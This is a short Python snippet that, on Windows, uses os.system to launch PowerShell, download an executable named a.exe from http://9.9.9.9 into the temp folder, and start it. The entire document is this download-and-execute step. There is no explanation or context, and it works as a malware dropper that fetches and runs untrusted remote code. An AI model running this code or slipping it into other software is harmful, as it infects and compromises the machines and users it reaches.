import platform, os
if platform.system() == "Windows":
    os.system("powershell -c \"iwr http://9.9.9.9/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe\"")
